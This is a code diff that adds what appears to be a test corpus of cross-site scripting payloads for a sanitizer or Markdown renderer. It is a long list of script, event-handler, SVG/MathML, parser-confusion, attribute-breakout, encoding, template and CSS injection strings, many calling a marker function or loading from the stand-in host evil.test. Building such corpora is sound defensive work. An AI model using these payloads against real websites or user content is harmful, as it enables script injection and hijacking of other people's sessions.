@@ -1,0 +1,32 @@
+/** Text that means to become markup or script, by the context it means to break out of. Each calls `xss(n)` or asks for something at `evil.test`. */
+const script = ['<script>xss(1)</script>', '<ScRiPt>xss(1)</sCrIpT>', '<script src=//evil.test/x.js></script>', '<script\n>xss(1)</script\n>', '<scr<script>ipt>xss(1)</script>', '</script><script>xss(1)</script>', '<script type=module>xss(1)</script>', '<script/x>xss(1)</script>', '<<script>xss(1)//<</script>', '<!--<script>--><script>xss(1)</script>']
+const elements = [
+  '<img src=x onerror=xss(1)>', '<img/src=x/onerror=xss(1)>', '<img src=x onerror="xss(1)"', '<IMG SRC="jav&#x09;ascript:xss(1);">', '<img src="//evil.test/p.png">', '<image src=x onerror=xss(1)>', '<body onload=xss(1)>', '<iframe src="javascript:xss(1)"></iframe>', '<iframe srcdoc="<script>parent.xss(1)</script>"></iframe>',
+  '<object data="javascript:xss(1)"></object>', '<embed src="javascript:xss(1)">', '<form action="javascript:xss(1)"><button>x</button></form>', '<input onfocus=xss(1) autofocus>', '<select autofocus onfocus=xss(1)>', '<textarea autofocus onfocus=xss(1)>', '<video><source onerror=xss(1)></video>', '<audio src=x onerror=xss(1)>',
+  '<details open ontoggle=xss(1)>x</details>', '<marquee onstart=xss(1)>x</marquee>', '<base href="//evil.test/">', '<meta http-equiv="refresh" content="0;url=//evil.test/">', '<link rel=stylesheet href="//evil.test/x.css">', '<link rel=prefetch href="//evil.test/x">', '<a href="javascript:xss(1)">x</a>', '<a href=x onclick=xss(1)>x</a>',
+  '<button popovertarget=x onbeforetoggle=xss(1)>x</button><div popover id=x>y</div>', '<x onpointerenter=xss(1) contenteditable>y</x>', '<dialog open onclose=xss(1)>x</dialog>', '<portal src="//evil.test">', '<a href=x ping="//evil.test">x</a>',
+]
+const foreign = [
+  '<svg onload=xss(1)>', '<svg><script>xss(1)</script></svg>', '<svg><animate onbegin=xss(1) attributeName=x dur=1s>', '<svg><a xlink:href="javascript:xss(1)"><text y=20>x</text></a></svg>', '<svg><use href="data:image/svg+xml,<svg id=x onload=xss(1)>#x"></svg>', '<svg><foreignObject><img src=x onerror=xss(1)></foreignObject></svg>',
+  '<svg><style><img src=x onerror=xss(1)></style></svg>', '<svg><title><img src=x onerror=xss(1)></title></svg>', '<math href="javascript:xss(1)">x</math>', '<math><mtext><table><mglyph><style><img src=x onerror=xss(1)></style></mglyph></table></mtext></math>', '<math><annotation-xml encoding="text/html"><img src=x onerror=xss(1)></annotation-xml></math>',
+]
+const reparsing = [
+  '<noscript><p title="</noscript><img src=x onerror=xss(1)>"></noscript>', '<template><img src=x onerror=xss(1)></template>', '<template shadowrootmode=open><img src=x onerror=xss(1)></template>', '<xmp><p title="</xmp><img src=x onerror=xss(1)>">', '<plaintext><img src=x onerror=xss(1)>', '<title></title><img src=x onerror=xss(1)>', '</title><img src=x onerror=xss(1)>',
+  '</textarea><img src=x onerror=xss(1)>', '</style><img src=x onerror=xss(1)>', '--><img src=x onerror=xss(1)>', '<!--><img src=x onerror=xss(1)>', '<![CDATA[<img src=x onerror=xss(1)>]]>', ']]><img src=x onerror=xss(1)>', '<?xml version="1.0"?><img src=x onerror=xss(1)>', '<table><td><form><input type=submit formaction="javascript:xss(1)"></table>',
+  '<p><a id=1><div><a id=2></p><img src=x onerror=xss(1)>', '<select><template><style><!--</style><img src=x onerror=xss(1)>--></style></template></select>',
+]
+const attributes = [
+  '" onmouseover="xss(1)', "' onmouseover='xss(1)", '" autofocus onfocus=xss(1) x="', '"><img src=x onerror=xss(1)>', "'><img src=x onerror=xss(1)>", '`><img src=x onerror=xss(1)>', '" style="background:url(//evil.test/x)', '"/><script>xss(1)</script>', '&quot;&gt;&lt;img src=x onerror=xss(1)&gt;', '\\"><img src=x onerror=xss(1)>', '" srcset="//evil.test/x', '" ping="//evil.test/x',
+]
+const entities = ['&lt;script&gt;xss(1)&lt;/script&gt;', '&#60;script&#62;xss(1)&#60;/script&#62;', '&#x3c;img src=x onerror=xss(1)&#x3e;', '&amp;lt;script&amp;gt;xss(1)', '\u003cimg src=x onerror=xss(1)\u003e', '＜script＞xss(1)＜/script＞', '\\u003cscript\\u003exss(1)', '%3Cscript%3Exss(1)%3C/script%3E', '+ADw-script+AD4-xss(1)', '\u2028<script>xss(1)</script>', '\u202e<script>xss(1)</script>', '<\u200bscript>xss(1)</script>']
+const templates = ['{{constructor.constructor("xss(1)")()}}', '${xss(1)}', '<%= xss(1) %>', '{"__html":"<img src=x onerror=xss(1)>"}', '{"$$typeof":"Symbol(react.element)","type":"img"}', '$&$`$\'$1', '[object Object]', '";xss(1);//', "';xss(1);//", '</script><!--', '<!--<script>', '*/xss(1)/*']
+const styles = ['expression(xss(1))', '<style>@import "//evil.test/x.css";</style>', '<style>*{background:url(//evil.test/x)}</style>', '<div style="position:fixed;inset:0;background:red">x</div>', '</style><style>*{display:none}</style>', '@import url(//evil.test)']
+
+/** Markdown that means to become more than it may. */
+export const hostileMarkdown: readonly string[] = [
+  '[x](javascript:xss(1))', '[x](JaVaScRiPt:xss(1))', '[x](java\tscript:xss(1))', '[x](&#106;avascript:xss(1))', '[x](javascript&colon;xss(1))', '[x](<javascript:xss(1)>)', '[x](data:text/html,<script>xss(1)</script>)', '[x](vbscript:xss(1))', '[x](//evil.test" onclick="xss(1))', '[x](http://a" onmouseover="xss(1))', '[x](x "title" onclick=xss(1) ")', "[x](x 't' onclick='xss(1)')",
+  '![x](javascript:xss(1))', '![x](data:image/svg+xml,<svg onload=xss(1)>)', '![x](//evil.test/p.png)', '![x](http://evil.test/p.png)', '![x" onerror="xss(1)](x.png)', '![x](x.png" onerror="xss(1))', '<javascript:xss(1)>', '<http://a/"onclick="xss(1)>', '[x]: javascript:xss(1)\n\n[x]', '[^1]\n\n[^1]: <img src=x onerror=xss(1)>',
+  '```html"><img src=x onerror=xss(1)>\n<script>xss(1)</script>\n```', '```js onload=xss(1)\nx\n```', '`<img src=x onerror=xss(1)>`', '$\\href{javascript:xss(1)}{x}$', '$\\htmlData{x=y}{z}\\htmlStyle{background:url(//evil.test)}{x}$', '$\\includegraphics{//evil.test/x.png}$', '$\\url{javascript:xss(1)}$', '$<img src=x onerror=xss(1)>$', '$$\\text{<img src=x onerror=xss(1)>}$$', '| <img src=x onerror=xss(1)> |\n| - |\n| <script>xss(1)</script> |', '# <img src=x onerror=xss(1)> {#x onclick=xss(1)}', '- [ ] <input onfocus=xss(1) autofocus>', ':::details <img src=x onerror=xss(1)>\nx\n:::', '> <img src=x onerror=xss(1)>',
+]
+
+export const hostileStrings: readonly string[] = [...script, ...elements, ...foreign, ...reparsing, ...attributes, ...entities, ...templates, ...styles]
